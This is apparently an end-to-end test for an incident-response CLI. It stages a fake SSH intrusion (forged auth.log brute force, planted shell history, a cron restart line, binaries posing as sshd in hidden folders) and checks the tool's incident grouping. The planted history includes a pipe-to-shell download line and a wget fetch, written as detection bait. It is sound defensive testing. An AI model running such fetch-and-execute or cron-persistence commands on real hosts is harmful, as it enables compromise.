/**
 * Incidents on a planted scene, through the real CLI (root only): a throwaway account brute-forced
 * and logged into from 127.0.0.3 (an auth.log bind-mounted over /var/log in the collect's own mount
 * namespace), its bash history downloading and starting a scanner (`pscan2`, a copy of sleep in
 * `/tmp/…/.. /`, run as the account), a cron.d line restarting it (a private /etc/cron.d in the
 * same namespace, so the box's cron never sees it), and three fake `sshd` processes run from a
 * hidden /dev/shm folder; and three addresses that only fail passwords, one campaign apart from the
 * login thread. `collect --json` must show one incident per thread and the story in order.
 */
import { execFileSync, spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { appendFileSync, chmodSync, chownSync, copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { IncidentsFileSchema } from '../../src/evidence/bundle-schemas.js';
import type { Finding } from '../../src/model/finding.js';
import type { Incident } from '../../src/model/incident.js';
import { extract, tmpDir } from '../helpers/bundle.js';
import { isRoot, runCli } from '../helpers/cli.js';

const useradd = ['/usr/sbin/useradd', '/sbin/useradd'].find((p) => existsSync(p));
const userdel = ['/usr/sbin/userdel', '/sbin/userdel'].find((p) => existsSync(p));
const SLEEP = ['/usr/bin/sleep', '/bin/sleep'].find((p) => existsSync(p));

function whySkip(): string | null {
  if (!isRoot) return 'needs root: a throwaway account, processes run as it, a private mount namespace';
  if (!useradd || !userdel) return 'useradd/userdel missing (apt-get install passwd)';
  if (!SLEEP) return 'sleep missing (coreutils)';
  const probe = spawnSync('unshare', ['-m', '--propagation', 'private', 'true'], { encoding: 'utf8' });
  if (probe.status !== 0) return `unshare --mount does not work here: ${probe.stderr?.trim()}`;
  return null;
}
const SKIP = whySkip();

/** rsyslog's RSYSLOG_FileFormat line. */
function logLine(ms: number, pid: number, message: string): string {
  return `${new Date(ms).toISOString().replace(/\.(\d{3})Z$/, '.$1000+00:00')} ${os.hostname()} sshd[${pid}]: ${message}`;
}

/** A copy of sleep with a unique tail, so its sha256 is this test's own. */
function plantBinary(to: string, marker: string): void {
  copyFileSync(SLEEP!, to);
  appendFileSync(to, `\n${marker}\n`);
  chmodSync(to, 0o755);
}

describe.skipIf(SKIP !== null)(`incidents on a planted scene${SKIP ? ` (skipped: ${SKIP})` : ''}`, () => {
  const tag = `${process.pid % 100000}`;
  const user = `irti${tag}`;
  const home = `/home/${user}`;
  const attacker = '127.0.0.3';
  const bystanders = ['127.0.0.4', '127.0.0.5', '127.0.0.6'];
  const kit = `/tmp/irt-incidents-${tag}`;
  const scannerDir = `${kit}/.. `;
  const scanner = `${scannerDir}/pscan2`;
  const fakeDir = `/dev/shm/.irt-incidents-${tag}`;
  const children: ChildProcess[] = [];
  let created = false;
  let work = '';
  let findings: Finding[] = [];
  let incidents: Incident[] = [];
  let caseDir = '';
  let scannerPid = 0;
  const fakePids: number[] = [];
  const now = Date.now();
  const login = now - 40 * 60_000;

  beforeAll(async () => {
    work = tmpDir('irt-inc-e2e-');
    execFileSync(useradd!, ['-m', '-d', home, '-s', '/bin/bash', user]);
    created = true;
    const uid = Number(execFileSync('id', ['-u', user], { encoding: 'utf8' }).trim());
    const gid = Number(execFileSync('id', ['-g', user], { encoding: 'utf8' }).trim());

    // The auth log: 30 failed passwords from the attacker, then the login (the session stays open).
    const logs = path.join(work, 'log');
    mkdirSync(logs);
    const lines: string[] = [];
    for (let i = 0; i < 30; i++) lines.push(logLine(login - 5 * 60_000 + i * 9_000, 7000 + i, `Failed password for ${user} from ${attacker} port ${40000 + i} ssh2`));
    lines.push(logLine(login, 7100, `Accepted password for ${user} from ${attacker} port 40100 ssh2`));
    lines.push(logLine(login + 100, 7100, `pam_unix(sshd:session): session opened for user ${user}(uid=${uid}) by (uid=0)`));
    // Three addresses that only guess: 12 failed passwords each, never a login.
    for (const [k, noise] of bystanders.entries()) {
      for (let i = 0; i < 12; i++) lines.push(logLine(login + 60_000 + k * 60_000 + i * 1_000, 6000 + k * 20 + i, `Failed password for invalid user admin${i} from ${noise} port ${30000 + i} ssh2`));
    }
    writeFileSync(path.join(logs, 'auth.log'), lines.join('\n') + '\n');

    // The kit: the scanner in a folder named to pass for `..`, readable by the account.
    mkdirSync(kit, { mode: 0o755 });
    chmodSync(kit, 0o755);
    mkdirSync(scannerDir, { mode: 0o755 });
    plantBinary(scanner, `irt-incidents-scanner-${tag}`);

    // The history: a download piped into a shell, the scanner fetched and started.
    const s = Math.floor(login / 1000);
    const history = [`#${s + 30}`, 'curl -fsSL http://127.0.0.1:9/x.sh | sh', `#${s + 60}`, `wget -q http://127.0.0.1:9/pscan2 -O "${scanner}"`, `#${s + 90}`, `"${scanner}" 22 &`, ''].join('\n');
    writeFileSync(`${home}/.bash_history`, history, { mode: 0o600 });
    chownSync(`${home}/.bash_history`, uid, gid);

    // The cron line that restarts it, in a private /etc/cron.d.
    const crond = path.join(work, 'cron.d');
    mkdirSync(crond);
    writeFileSync(path.join(crond, 'pscan'), `* * * * * ${user} "${scanner}" 22 >/dev/null 2>&1\n`);

    const scan = spawn(scanner, ['3600'], { uid, gid, cwd: '/', stdio: 'ignore' });
    children.push(scan);
    scannerPid = scan.pid!;

    // Three processes posing as sshd, from one hidden folder in /dev/shm.
    mkdirSync(fakeDir, { mode: 0o755 });
    plantBinary(`${fakeDir}/sshd`, `irt-incidents-sshd-${tag}`);
    for (let i = 0; i < 3; i++) {
      const p = spawn(`${fakeDir}/sshd`, ['3600'], { cwd: '/', stdio: 'ignore' });
      children.push(p);
      fakePids.push(p.pid!);
    }
    await new Promise((r) => setTimeout(r, 300));

    const playbook = path.join(work, 'incidents.yaml');
    writeFileSync(
      playbook,
      [
        'title: Incidents scene',
        'description: Logins, processes, history and cron.',
        'thresholds:',
        '  auth.bruteforce: { failures: 10 }',
        '  auth.login-after-failures: { failures: 10 }',
        'steps:',
        '  - { id: host, kind: collect, title: Host, why: Times., collect: [host] }',
        '  - { id: sessions, kind: collect, title: Logins, why: Who., collect: [auth-log, logins], rules: [auth.bruteforce, auth.login-after-failures] }',
        '  - { id: processes, kind: collect, title: Processes, why: What runs., collect: [processes], rules: [process.known-tool, process.masquerade, process.exe-in-writable-dir] }',
        '  - { id: activity, kind: collect, title: History, why: What they typed., collect: [shell-history], rules: [activity.download-execute] }',
        '  - { id: persistence, kind: collect, title: Cron, why: What restarts it., collect: [accounts, cron], rules: [persistence.cron] }',
        '',
      ].join('\n'),
    );
    const out = tmpDir('irt-inc-e2e-out-');
    const mounts = `mount --bind '${logs}' /var/log; mount --bind '${crond}' /etc/cron.d`;
    const prefix = ['unshare', '-m', '--propagation', 'private', 'bash', '-c', `set -e; ${mounts}; exec "$@"`, 'bash'];
    const r = await runCli(['collect', '--playbook', playbook, '--out', out, '--case', `INC-${tag}`, '--json'], { prefix, timeout: 300_000 });
    expect(r.code, r.stderr).toBe(0);
    const summary = JSON.parse(r.stdout);
    findings = summary.findings;
    incidents = summary.incidents;
    caseDir = extract(summary.bundle);
  }, 300_000);

  afterAll(() => {
    for (const c of children) if (c.exitCode === null) c.kill('SIGKILL');
    if (created) spawnSync(userdel!, ['-r', user], { stdio: 'ignore' });
    rmSync(home, { recursive: true, force: true });
    rmSync(kit, { recursive: true, force: true });
    rmSync(fakeDir, { recursive: true, force: true });
    if (work) rmSync(work, { recursive: true, force: true });
  });

  const mine = (f: Finding) => f.subject.ip === attacker || f.subject.user === user || fakePids.includes(f.subject.pid as number) || f.subject.pid === scannerPid;
  const incidentOf = (id: string) => incidents.find((i) => i.findings.includes(id))!;

  it('every finding is in exactly one incident; artifacts/incidents.json is what --json printed', () => {
    expect(incidents.flatMap((i) => i.findings).sort()).toEqual(findings.map((f) => f.id).sort());
    const file = JSON.parse(readFileSync(path.join(caseDir, 'artifacts/incidents.json'), 'utf8'));
    expect(IncidentsFileSchema.safeParse(file).success).toBe(true);
    expect(file.incidents).toEqual(incidents);
    expect(file.main).toBe(incidents[0]!.id);
  });

  it('the brute force, the login, the history, the scanner and its cron line are one incident, and only that', () => {
    const login = findings.find((f) => f.rule === 'auth.login-after-failures' && f.subject.user === user)!;
    expect(login, JSON.stringify(findings.map((f) => f.title))).toBeDefined();
    const inc = incidentOf(login.id);
    const rules = inc.findings.map((id) => findings.find((f) => f.id === id)!).filter(mine).map((f) => f.rule).sort();
    expect(new Set(rules)).toEqual(new Set(['activity.download-execute', 'auth.bruteforce', 'auth.login-after-failures', 'persistence.cron', 'process.known-tool', 'process.exe-in-writable-dir']));
    expect(inc.subjects.pids).toContain(scannerPid);
    for (const p of fakePids) expect(inc.subjects.pids).not.toContain(p);
    expect(inc.title).toBe(`Brute force and login as ${user} from ${attacker}, then known tool pscan2 running from ${scannerDir}/, restarted by cron`);
    expect(inc.severity).toBe('critical');
    const reasons = new Set(inc.joins.map((j) => j.reason));
    // The history joins by its file and the address of its session; the scanner by the path the history ran and the cron line names.
    for (const r of ['same-address', 'same-process', 'same-file'] as const) expect(reasons, JSON.stringify(inc.joins)).toContain(r);
    expect(inc.joins.find((j) => j.reason === 'same-file' && j.value === scanner)).toBeDefined();
  });

  it('its story: brute force, login, the same session\'s commands, a gap, the scanner', () => {
    const login = findings.find((f) => f.rule === 'auth.login-after-failures' && f.subject.user === user)!;
    const story = incidentOf(login.id).story;
    const at = (re: RegExp) => story.findIndex((l) => re.test(l.text));
    const order = [
      at(new RegExp(`^${attacker.replaceAll('.', '\\.')} failed 30 ssh logins`)),
      at(new RegExp(`^${user} logged in from ${attacker.replaceAll('.', '\\.')} after 30 failed passwords`)),
      at(/^the same session ran `curl -fsSL/),
      at(/^the same session ran `"\/tmp\/irt-incidents-\d+\/\.\. \/pscan2" 22 &`/),
      at(new RegExp(`^no history of ${user} covers`)),
      at(new RegExp(`^pscan2 \\(pid ${scannerPid}\\) started from `)),
    ];
    expect(order.every((i) => i >= 0), JSON.stringify(story.map((l) => l.text), null, 1)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    expect(story[order[1]!]!.tactic).toBe('initial-access');
    expect(story[order[1]!]!.evidence[0]).toMatch(/^files\/logs\/var\/log\/auth\.log:31$/);
    expect(story[order[2]!]!.time).toBe(new Date((Math.floor(login.subject.time ? Date.parse(login.subject.time as string) / 1000 : 0) + 30) * 1000).toISOString());
    expect(story.some((l) => /^cron line \/etc\/cron\.d\/pscan:1 runs/.test(l.text))).toBe(true);
    for (const l of story) expect(existsSync(path.join(caseDir, l.evidence[0]?.replace(/:\d+$/, '') ?? '.'))).toBe(true);
  });

  it("the bundle's report opens with the main incident's story, link by link in the same order, before the findings", () => {
    const main = incidents[0]!;
    const md = readFileSync(path.join(caseDir, 'report.md'), 'utf8');
    const start = md.indexOf('## The story: ');
    expect(start).toBeGreaterThan(-1);
    expect(start).toBeLessThan(md.indexOf('## Incidents'));
    expect(md.indexOf('## Incidents')).toBeLessThan(md.indexOf('## Findings'));
    const section = md.slice(start, md.indexOf('\n## ', start + 1));
    expect(section).toContain(`Main incident ${main.id} (${main.severity})`);
    const rows = section.split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| time |'));
    expect(rows).toHaveLength(main.story.length);
    main.story.forEach((link, i) => {
      const row = rows[i]!;
      if (link.kind === 'gap') expect(row).toContain('*gap*');
      for (const id of link.findings) expect(row).toContain(id);
    });
    const html = readFileSync(path.join(caseDir, 'report.html'), 'utf8');
    const story = html.indexOf('id="story"');
    expect(story).toBeGreaterThan(-1);
    expect(story).toBeLessThan(html.indexOf('id="incidents"'));
    expect(html.indexOf('id="incidents"')).toBeLessThan(html.indexOf('id="findings"'));
    expect(html.slice(story, html.indexOf('</section>', story))).toContain(`${main.id}</a>`);
  });

  it('the addresses that only failed are one campaign, apart from the login thread', () => {
    const noise = findings.filter((f) => bystanders.includes(f.subject.ip as string));
    expect(noise.map((f) => f.rule).sort(), JSON.stringify(findings.map((f) => f.title))).toEqual(['auth.bruteforce', 'auth.bruteforce', 'auth.bruteforce']);
    const inc = incidentOf(noise[0]!.id);
    expect([...inc.findings].sort()).toEqual(noise.map((f) => f.id).sort());
    expect(inc.title).toBe('Brute force from 3 addresses (no login)');
    expect(inc.joins.map((j) => j.reason)).toEqual(['attack-only', 'attack-only']);
    expect(inc.story[0]!.text).toBe('3 addresses attacked ssh and none logged in: 36 failed logins');
    const login = findings.find((f) => f.rule === 'auth.login-after-failures' && f.subject.user === user)!;
    expect(incidentOf(login.id)).not.toBe(inc);
    expect(incidentOf(login.id).subjects.addresses).toEqual([attacker]);
  });

  it('the three fake sshd processes are one incident of their own', () => {
    const fake = findings.filter((f) => fakePids.includes(f.subject.pid as number));
    expect(new Set(fake.map((f) => f.rule))).toEqual(new Set(['process.masquerade', 'process.exe-in-writable-dir']));
    const inc = incidentOf(fake[0]!.id);
    for (const f of fake) expect(incidentOf(f.id)).toBe(inc);
    expect(inc.findings.map((id) => findings.find((f) => f.id === id)!).filter(mine)).toHaveLength(fake.length);
    expect(inc.title).toBe(`3 processes posing as sshd from ${fakeDir}/`);
    expect(inc.subjects.pids).toEqual([...fakePids].sort((a, b) => a - b));
    expect(inc.subjects.folders).toEqual([`${fakeDir}/`]);
    expect(inc.story.filter((l) => l.kind === 'event')).toHaveLength(3);
  });
});
